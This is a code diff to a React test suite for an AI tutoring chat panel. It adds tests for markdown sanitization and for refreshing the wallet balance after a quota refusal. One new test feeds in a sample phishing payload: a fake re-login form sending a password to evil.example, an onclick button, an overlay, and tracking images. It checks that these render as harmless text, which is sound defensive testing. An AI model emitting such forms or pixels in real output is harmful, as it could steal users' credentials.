@@ -7,10 +7,11 @@ import { ai, type AiMessage } from '../../../contract/ai/calls.ts';
 import { ErrorCode } from '../../../contract/errors.ts';
 import { wallet } from '../../../contract/wallet/calls.ts';
 import { aiChatActorFor } from '../../app/aiActors.ts';
+import { isCommerceKey } from '../../app/commerceQueries.ts';
 import { answer, api, failure, success, TEST_API } from '../../test/fakeApi.ts';
 import { createTestRuntime, withRuntime } from '../../test/testRuntime.tsx';
 import { AiChatPanel } from './AiChatPanel.tsx';
-import { aiMarkdownBlocks } from './AiMarkdown.tsx';
+import { AiMarkdown, aiMarkdownBlocks } from './AiMarkdown.tsx';
 
 beforeAll(() => api.listen({ onUnhandledRequest: 'error' }));
 afterEach(() => {
@@ -134,8 +135,36 @@ describe('aiMarkdownBlocks', () => {
     );
     expect(blocks.map((b) => b.kind)).toEqual(['html', 'code', 'html']);
     expect(blocks[0]).toMatchObject({ kind: 'html' });
-    expect((blocks[0] as { html: string }).html).not.toContain('onerror');
+    const prose = document.createElement('div');
+    prose.innerHTML = (blocks[0] as { html: string }).html;
+    expect(prose.querySelector('img')).toBeNull();
+    expect(prose.querySelector('[onerror]')).toBeNull();
     expect(blocks[1]).toEqual({ kind: 'code', lang: 'cpp', text: 'long long a;' });
+  });
+
+  it('shows a reply’s raw HTML as text: no form, control, image or style reaches the page', () => {
+    const { container } = render(
+      <AiMarkdown
+        markdown={[
+          '**请重新登录**：',
+          '<form action="https://evil.example/steal"><input name="password" type="password"><button>登录</button></form>',
+          '',
+          '行内 <button onclick="x()">点我</button> 和 <span style="position:fixed">盖住</span>',
+          '',
+          '![追踪](https://evil.example/pixel.png) <img src="https://evil.example/a.png">',
+          '',
+          '[题解](https://example.com/a)',
+        ].join('\n')}
+      />,
+    );
+    for (const tag of ['form', 'input', 'button', 'img', '[style]', '[onclick]']) {
+      expect(container.querySelector(`.xa-ai-markdown ${tag}`), tag).toBeNull();
+    }
+    // Shown as the text it is, not dropped: the learner sees what the model wrote.
+    expect(container.textContent).toContain('<form action="https://evil.example/steal">');
+    expect(container.textContent).toContain('[追踪]');
+    expect(container.querySelector('strong')?.textContent).toBe('请重新登录');
+    expect(container.querySelector('a')?.getAttribute('href')).toBe('https://example.com/a');
   });
 
   it('renders an unclosed fence of a reply still being written as code', () => {
@@ -232,6 +261,42 @@ describe('AiChatPanel', () => {
     expect(callout.textContent).toContain('次数已用完');
     expect(callout.querySelector('a')?.getAttribute('href')).toBe('/activityPackages');
     expect((screen.getByLabelText('你的问题') as HTMLTextAreaElement).value).toBe('你好');
+  });
+
+  it('shows the wallet again once it is read after a reply’s balance (tokens were bought)', async () => {
+    walletWith(3);
+    answer(ai['oj.aiSession.create'], () =>
+      success({
+        id: 5,
+        title: '你好',
+        scene: 'question',
+        context: {},
+        messageCount: 0,
+        createdAt: '2026-11-27T01:00:00.000Z',
+        updatedAt: '2026-11-27T01:00:00.000Z',
+      }),
+    );
+    answer(ai['oj.aiSession.message.create'], () =>
+      failure(ErrorCode.QUOTA_USED_UP, 'AI 额度次数已用完，请购买 AI 额度后继续', 429),
+    );
+    const runtime = createTestRuntime();
+    const actor = aiChatActorFor(runtime, { scene: 'question', context: { questionId: 1 } });
+    render(
+      withRuntime(
+        runtime,
+        <MemoryRouter>
+          <AiChatPanel actor={actor} />
+        </MemoryRouter>,
+      ),
+    );
+    await waitFor(() => expect(screen.getByTestId('ai-balance').dataset.balance).toBe('3'));
+    ask('你好');
+    await screen.findByTestId('ai-out-of-tokens');
+    // The refusal is newer than the wallet read before it.
+    expect(screen.getByTestId('ai-balance').dataset.balance).toBe('0');
+    walletWith(500);
+    runtime.queries.cache.invalidate(isCommerceKey);
+    await waitFor(() => expect(screen.getByTestId('ai-balance').dataset.balance).toBe('500'));
   });
 
   it('refused during an exam: disabled with the server’s reason, no question box', async () => {
